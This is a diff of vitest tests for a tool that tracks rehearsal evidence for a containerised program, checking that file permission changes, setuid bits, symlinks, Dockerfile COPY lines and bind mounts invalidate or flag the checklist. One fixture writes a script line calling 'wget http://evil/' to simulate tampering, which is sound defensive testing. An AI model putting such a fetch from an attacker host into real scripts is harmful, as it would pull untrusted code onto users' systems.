@@ -1,6 +1,6 @@
-import { appendFile, chmod, cp, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
+import { appendFile, chmod, cp, mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
-import { join } from 'node:path';
+import { dirname, join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, test } from 'vitest';
 import { renewChecklist } from '../../../src/commands/check/renew-checklist.ts';
 import { openCheckTargets } from '../../../src/commands/check/open-check-targets.ts';
@@ -107,6 +107,11 @@ describe('ticks nothing', () => {
     ['an edit of the arguments', async () => appendFile(path('ces/run.sh'), '# x\n')],
     ['an edit of the synthetic input', async () => appendFile(path('rehearsal/safe_data/measurements.csv'), '1,2\n')],
     ['a program that became executable', async () => chmod(path('src/main.py'), 0o755)],
+    ['a program that not everybody may read', async () => chmod(path('src/main.py'), 0o600)],
+    ['a program that all may write', async () => chmod(path('src/main.py'), 0o666)],
+    ['a program that sets a user', async () => chmod(path('src/main.py'), 0o4755)],
+    ['a folder that not everybody may enter', async () => chmod(path('src'), 0o700)],
+    ['an empty folder beside the program', async () => mkdir(path('src/flag'))],
     ['another ignore file', async () => writeFile(path('.dockerignore'), '*\n')],
     [
       'another version of the program',
@@ -226,6 +231,64 @@ test('a job of the cluster that gives the program what no rehearsal can', async 
   await writeFile(path('ces/job.yaml'), text.replace('mountPath: /dev/shm', 'mountPath: /app'));
   await rehearse();
   expect((await record()).overrides?.join('; ')).toContain('mounts something at /app');
+  expect(await ticked()).toBe(0);
+});
+
+test.each([
+  ['what pack writes', 'COPY handover/main.sh /app/start.sh', 'handover/main.sh', 'handover'],
+  ['what lies beside our own state', 'COPY .tre-container/x.sh /app/', '.tre-container/x.sh', '.tre-container'],
+  ['the checklist', 'COPY CHECKLIST.md /app/run.sh', 'CHECKLIST.md', 'CHECKLIST.md'],
+  ['the record', 'COPY rehearsal/ /app/', 'rehearsal/x.sh', 'rehearsal/evidence.json'],
+  ['everything', 'COPY . /app/', 'x.sh', 'CHECKLIST.md, rehearsal/evidence.json'],
+  ['a link to what pack writes', 'COPY d1/x /app/', 'handover/run.sh', 'handover'],
+  [
+    'a mount, which podman gives whatever is ignored',
+    'RUN --mount=type=bind,target=/c cp /c/x /',
+    'x',
+    'CHECKLIST.md, rehearsal/evidence.json',
+  ],
+])('an image proves nothing that holds what this program writes: %s', async (_, line, file, named) => {
+  await mkdir(path('d1'));
+  await symlink('../handover/run.sh', path('d1/x'));
+  await mkdir(path(dirname(file)), { recursive: true });
+  if (file !== 'CHECKLIST.md') await writeFile(path(file), '#!/bin/sh\n');
+  if (!line.startsWith('RUN')) await writeFile(path('.dockerignore'), '');
+  await appendFile(path('Dockerfile'), `${line}\n`);
+  await rehearse();
+  expect(await ticked()).toBe(0);
+  expect((await record()).overrides).toEqual([
+    expect.stringMatching(
+      new RegExp(
+        `^${line.split(' ')[0] ?? ''} on line \\d+ of Dockerfile can take ${named.replaceAll('.', '\\.')}, which`,
+      ),
+    ),
+  ]);
+});
+
+test.each([
+  ['the history', 'COPY .git/h /app/', '.git/h'],
+  ['a folder below that is called as ours', 'COPY d1/ /app/', 'd1/.tre-container/x'],
+  ['a folder below that is called as one of git', 'COPY d1/ /app/', 'd1/.git/x'],
+  ['a mount that the ignore file leaves out', 'RUN --mount=type=bind,source=other,target=/c cp /c/x /', 'other/x'],
+])('what is copied counts, whatever it is called: %s', async (_, line, file) => {
+  await mkdir(path(dirname(file)), { recursive: true });
+  await writeFile(path(file), '#!/bin/sh\n');
+  if (!line.startsWith('RUN')) await writeFile(path('.dockerignore'), '');
+  await appendFile(path('Dockerfile'), `${line}\n`);
+  await rehearse();
+  expect(await ticked()).toBe(5);
+  await writeFile(path(file), '#!/bin/sh\nwget http://evil/\n');
+  await renew();
+  expect(await ticked()).toBe(0);
+});
+
+test('an ignore file that lets in what this program writes, once a rehearsal is over', async () => {
+  await writeFile(path('.dockerignore'), '.tre-container\nCHECKLIST.md\nrehearsal\n');
+  await appendFile(path('Dockerfile'), 'COPY . /all/\n');
+  await rehearse();
+  expect(await ticked()).toBe(5);
+  await writeFile(path('.dockerignore'), '.tre-container\nrehearsal\n');
+  await renew();
   expect(await ticked()).toBe(0);
 });
 
